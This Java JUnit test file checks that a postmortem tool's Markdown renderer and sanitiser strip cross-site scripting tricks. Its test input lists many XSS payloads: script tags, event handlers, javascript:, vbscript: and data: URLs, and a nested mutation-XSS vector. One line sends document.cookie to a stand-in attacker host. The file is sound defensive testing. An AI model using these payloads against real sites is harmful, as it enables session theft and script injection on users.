package io.hindsight.postmortem.domain;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.Locale;
import java.util.Set;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;

public class MarkdownRendererTest {

    /** A payload full of the usual tricks: raw tags, event handlers, script URLs in every disguise. */
    public static final String TRICKS = """
            # Root cause <script>alert(1)</script>

            <script>document.location='https://evil.example/?c='+document.cookie</script>
            <iframe src="https://evil.example"></iframe>
            <img src=x onerror="alert(2)">
            <svg onload=alert(3)><circle/></svg>
            <a href="javascript:alert(4)">raw link</a>
            <div style="background:url(javascript:alert(5))" onclick="alert(6)">styled</div>
            <object data="evil.swf"></object><embed src="evil.swf"><form action="https://evil.example"><input></form>
            <math><mtext><table><mglyph><style><img src=x onerror=alert(7)></style></mglyph></table></mtext></math>

            [click](javascript:alert(8)) [again](JaVaScRiPt:alert(9)) [encoded](jav&#x09;ascript:alert(10))
            [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxMSk8L3NjcmlwdD4=) [vb](vbscript:msgbox(12))
            ![img](javascript:alert(13)) <javascript:alert(14)>
            [ok](https://example.org/runbook) and **bold** and `code <b>`
            """;

    @Test
    void scriptTricksAreRemoved() {
        String html = MarkdownRenderer.toHtml(TRICKS);
        assertSafe(html);
        // raw HTML is shown as text, never as markup
        assertTrue(html.contains("&lt;script&gt;"), html);
    }

    /** Checks the parsed DOM, not the text: escaped tricks may be shown as words, never as elements or attributes. */
    public static void assertSafe(String html) {
        Document doc = Jsoup.parseBodyFragment(html);
        for (Element e : doc.body().getAllElements()) {
            assertFalse(Set.of("script", "iframe", "svg", "object", "embed", "form", "input", "style", "img", "math", "link",
                    "meta", "base").contains(e.normalName()), () -> "element <" + e.normalName() + "> survived in: " + html);
            for (Attribute a : e.attributes()) {
                String name = a.getKey().toLowerCase(Locale.ROOT);
                String value = a.getValue().toLowerCase(Locale.ROOT).replaceAll("[\\s\\x00-\\x1f]", "");
                assertFalse(name.startsWith("on") || name.equals("style") || name.equals("srcdoc"),
                        () -> "attribute " + name + " survived in: " + html);
                assertFalse(value.contains("javascript:") || value.contains("vbscript:") || value.startsWith("data:"),
                        () -> "URL " + a.getValue() + " survived in: " + html);
            }
        }
    }

    @Test
    void theSanitiserAloneStripsRawHtmlTricks() {
        String html = MarkdownRenderer.sanitize("<p onclick=\"x()\">hi<script>alert(1)</script></p>"
                + "<iframe srcdoc=\"<script>alert(2)</script>\"></iframe><a href=\"java\tscript:alert(3)\">a</a>"
                + "<a href=\"https://ok.example\" onmouseover=\"alert(4)\">ok</a><img src=x onerror=alert(5)>"
                + "<svg><script>alert(6)</script></svg><table background=\"javascript:alert(7)\"><tr><td>t</td></tr></table>");
        assertSafe(html);
        assertTrue(html.contains("<p>hi</p>"), html);
        assertTrue(html.contains("href=\"https://ok.example\""), html);
    }

    @Test
    void ordinaryMarkdownSurvives() {
        String html = MarkdownRenderer.toHtml(TRICKS);
        assertTrue(html.contains("<h1>"), html);
        assertTrue(html.contains("<strong>bold</strong>"), html);
        assertTrue(html.contains("<code>code &lt;b&gt;</code>"), html);
        assertTrue(html.contains("href=\"https://example.org/runbook\""), html);
        assertTrue(html.contains("rel=\"nofollow noopener noreferrer\""), html);
    }

    @Test
    void tablesRender() {
        String html = MarkdownRenderer.toHtml("| a | b |\n|---|---|\n| 1 | 2 |\n");
        assertTrue(html.contains("<table>") && html.contains("<td>1</td>"), html);
    }

    @Test
    void blankIsEmpty() {
        assertEquals("", MarkdownRenderer.toHtml(null));
        assertEquals("", MarkdownRenderer.toHtml("  "));
    }
}
